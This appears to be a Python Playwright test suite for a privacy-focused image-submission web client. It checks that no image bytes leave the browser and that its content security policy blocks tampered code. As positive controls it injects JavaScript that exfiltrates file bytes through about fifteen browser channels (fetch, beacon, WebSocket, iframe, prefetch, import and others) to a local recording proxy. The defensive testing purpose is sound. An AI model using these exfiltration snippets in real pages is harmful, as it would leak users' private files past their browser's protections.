"""No image leaves the device: everything that the browser sends is searched for its bytes."""

import base64
from urllib.parse import quote_from_bytes

import numpy as np
import pytest
from playwright.sync_api import Page

from clients.browser.assemble import PAGE_POLICY, PICKER_POLICY, assemble, read_sources
from tests.support.waiting import wait_until

from .drawn_images import photo
from .leak_search import WINDOW, find_leaks
from .person import TEXTS, Person, file
from .recording_proxy import RecordingProxy

PHOTO = photo(3)


def walk_through(person: Person) -> None:
    """Use every function: submit two images, look at the case, withdraw one, withdraw all."""
    person.start()
    person.choose(file("one.jpg", PHOTO), file("two.jpg", photo(4)))
    person.review()
    person.submit()
    person.page.locator("#name-images summary").press("Enter")
    person.page.get_by_label("Image 1").fill("a label")
    with person.page.expect_download():
        person.press(TEXTS["done"]["save"])
    person.press(TEXTS["done"]["look"])
    person.press("Withdraw image 1")
    person.press(TEXTS["case"]["yes"])
    # The response redraws the screen, and would take an open question with it.
    person.page.get_by_text(TEXTS["case"]["did"]).wait_for()
    person.press(TEXTS["case"]["withdraw-all"])
    person.press(TEXTS["case"]["yes"])
    person.page.get_by_text(TEXTS["case"]["did"]).wait_for()


def test_no_part_of_an_image_leaves_the_browser(person: Person, proxy: RecordingProxy) -> None:
    walk_through(person)
    assert len(proxy.api_requests("POST")) == 1
    # The text that `walk_through` waits for may still be that of the first withdrawal.
    wait_until(lambda: len(proxy.api_requests("DELETE")) == 2)
    assert find_leaks(PHOTO, [each.raw for each in proxy.requests]) == []
    assert proxy.foreign_urls == [], proxy.foreign_urls


# Positive controls: the same search on a page that has been tampered with.

SMUGGLE = """
  file.slice(5000, 5032).bytes().then((bytes) => postToPage({ kind: "hashed", image: 99, hashes: [
    { pdq: Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join(""),
      quality: 100, view: "original" }] }));
"""


def test_bytes_smuggled_out_as_a_hash_are_found(page: Page, proxy: RecordingProxy) -> None:
    choose_photo_on(page, proxy, tampered(SMUGGLE))
    person = Person(page)
    person.review()
    person.confirm_statements()
    # Whether or not the service accepts such a hash, it has been sent.
    with page.expect_response("**/v1/cases"):
        person.press(TEXTS["check"]["send"])
    assert len(find_leaks(PHOTO, [proxy.api_requests("POST")[0].raw])) >= 32 - WINDOW + 1


# Bodies of an async function of `file`, `url` and `text` (a part of the file in base64).
SENDERS = {
    "fetch": "await fetch(url, { method: 'POST', mode: 'no-cors', body: file })",
    "beacon": "navigator.sendBeacon(url, text)",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', url); x.send(text)",
    "image": "new Image().src = url + text",
    "form": "const form = document.createElement('form'); form.action = url + text;"
    " form.method = 'POST'; document.body.append(form); form.submit()",
    "navigation": "location.href = url + text",
    "window": "open(url + text)",
    "top": "top.location.href = url + text",
    "frame": "const inner = document.createElement('iframe'); inner.src = url + text;"
    " document.body.append(inner)",
    "stylesheet": "const link = document.createElement('link'); link.rel = 'stylesheet';"
    " link.href = url + text; document.head.append(link)",
    "prefetch": "const link = document.createElement('link'); link.rel = 'prefetch';"
    " link.href = url + text; document.head.append(link)",
    "socket": "new WebSocket(url.replace('http', 'ws') + text)",
    "events": "new EventSource(url + text)",
    "import": "await import(url + text)",
    "worker": "new Worker(URL.createObjectURL(new Blob("
    "[`fetch('${url}${text}').catch(() => 0)`])))",
}
NO_POLICY = "img-src *"
SEND_TEMPLATE = """
  file.slice(0, 600).arrayBuffer().then(async (bytes) => {
    const url = "ADDRESS/collect-NAME?";
    const text = btoa(String.fromCharCode(...new Uint8Array(bytes)));
    BODY;
  }).catch(() => {});
"""


def tampered(code: str, **policies: str) -> str:
    """Return the page with extra code that runs on every chosen file."""
    sources = read_sources()
    loop = "  for (const file of files) {\n"
    assert loop in sources["picker/picker.js"]
    sources["picker/picker.js"] = sources["picker/picker.js"].replace(loop, loop + code + ";\n")
    return assemble(sources, **policies)


def choose_photo_on(page: Page, proxy: RecordingProxy, tampered_page: str) -> None:
    """Choose a photo on a tampered page, and give its code time to send."""
    proxy.page = tampered_page
    page.reload()
    person = Person(page)
    person.start()
    person.picker.locator("input[type=file]").set_input_files(file("one.jpg", PHOTO))
    page.wait_for_timeout(1_000)


def sending_code(proxy: RecordingProxy, *names: str) -> str:
    texts = [SEND_TEMPLATE.replace("NAME", name).replace("BODY", SENDERS[name]) for name in names]
    return "\n".join(texts).replace("ADDRESS", proxy.address)


def test_tampered_code_cannot_send(page: Page, proxy: RecordingProxy) -> None:
    choose_photo_on(page, proxy, tampered(sending_code(proxy, *SENDERS)))
    assert not [each.url for each in proxy.requests if "collect" in each.url]
    assert not find_leaks(PHOTO, [each.raw for each in proxy.requests])


def test_without_the_policy_the_same_code_is_found(page: Page, proxy: RecordingProxy) -> None:
    staying = [name for name in SENDERS if name not in ("form", "navigation", "top", "window")]
    code = sending_code(proxy, *staying)
    choose_photo_on(page, proxy, tampered(code, page_policy=NO_POLICY, picker_policy=NO_POLICY))
    caught = {each.path.partition("collect-")[2]: each.raw for each in proxy.requests}
    for name in set(staying) - {"socket", "prefetch"}:
        assert find_leaks(PHOTO, [caught[name]]), name


def test_without_the_policy_a_navigation_is_found(page: Page, proxy: RecordingProxy) -> None:
    code = sending_code(proxy, "navigation")
    choose_photo_on(page, proxy, tampered(code, page_policy=NO_POLICY, picker_policy=NO_POLICY))
    assert find_leaks(PHOTO, [each.raw for each in proxy.requests])


@pytest.mark.parametrize(
    "encoded",
    [
        PHOTO[500:540],
        b"x=" + base64.b64encode(PHOTO[100:160])[3:-4],
        base64.urlsafe_b64encode(PHOTO[100:160]),
        b"0" + PHOTO[700:720].hex().encode(),
        PHOTO[700:720].hex().upper().encode(),
        quote_from_bytes(PHOTO[900:930]).encode(),
        quote_from_bytes(base64.b64encode(PHOTO[900:930])).encode(),
    ],
)
def test_the_search_finds_every_encoding(encoded: bytes) -> None:
    assert find_leaks(PHOTO, [b"GET /?q=" + encoded + b"&r=1 HTTP/1.1"])


def test_the_search_finds_nothing_in_another_file() -> None:
    other = np.random.default_rng(1).bytes(100_000)
    assert find_leaks(PHOTO, [other, base64.b64encode(other), other.hex().encode()]) == []


def test_the_policies_allow_no_other_source() -> None:
    for policy in (PAGE_POLICY, PICKER_POLICY):
        assert policy.startswith("default-src 'none';")
        assert "unsafe" not in policy
        assert "http" not in policy
    assert "connect-src" not in PICKER_POLICY
    assert "'self'" not in PICKER_POLICY
